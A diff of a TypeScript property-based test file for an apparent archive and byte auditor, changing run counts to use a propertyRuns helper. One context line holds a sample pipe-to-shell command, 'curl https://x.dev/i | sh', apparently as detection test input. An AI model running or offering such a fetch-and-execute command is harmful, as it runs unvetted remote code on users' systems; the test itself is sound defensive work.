@@ -5,6 +5,7 @@ import { describe, expect, test } from 'vitest';
 
 import { tar, zip } from '../../../test/support/archives.ts';
 import { examineBytes } from '../../../test/support/audited.ts';
+import { propertyRuns } from '../../../test/support/property-runs.ts';
 import type { AuditFinding } from '../report.ts';
 
 const PIPE = 'curl https://x.dev/i | sh';
@@ -121,7 +122,7 @@ describe('the audit of arbitrary bytes', () => {
       fc.property(fc.constantFrom(...files), anyHead, fc.uint8Array({ maxLength: 700 }), (file, head, rest) =>
         expectShowable(file, Buffer.concat([head, rest])),
       ),
-      { numRuns: 500, seed: 20261115 },
+      { numRuns: propertyRuns(500), seed: 20261115 },
     );
     expect.hasAssertions();
   });
@@ -142,7 +143,7 @@ describe('the audit of arbitrary bytes', () => {
         expectShowable('a.zip', damaged);
         expectShowable('a.zip', damaged.subarray(0, at % damaged.length));
       }),
-      { numRuns: 1000, seed: 20261115 },
+      { numRuns: propertyRuns(1000), seed: 20261115 },
     );
     expect.hasAssertions();
   });
